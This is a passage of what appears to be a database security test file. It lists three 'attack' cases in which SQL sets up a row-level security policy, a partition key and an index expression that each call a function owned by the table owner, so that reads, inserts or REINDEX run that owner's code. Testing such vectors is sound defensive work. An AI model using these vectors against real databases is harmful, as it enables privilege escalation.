  attack('by a policy', written(KEPT, COPIES, EACH, 'ALTER TABLE public.OWN ENABLE ROW LEVEL SECURITY; ALTER TABLE public.OWN FORCE ROW LEVEL SECURITY; CREATE POLICY p ON public.OWN USING (public.OWN_f(k) = 0)', 'SELECT count(*) FROM public.OWN', READ), 'lax');
  attack('by the key of partitions', written(KEPT, COPIES_IMMUTABLE, 'CREATE TABLE public.OWN_n (k int) PARTITION BY RANGE (public.OWN_i(k)); CREATE TABLE public.OWN_1 PARTITION OF public.OWN_n DEFAULT', EACH.replace('OWN (k)', 'OWN_n'), READ), 'lax');
  attack('by REINDEX', written(KEPT, COPIES_IMMUTABLE, 'CREATE INDEX OWN_x ON public.OWN (public.OWN_i(k))', EACH, 'TRUNCATE public.OWN_kept', 'REINDEX INDEX public.OWN_x', READ), 'lax');
});
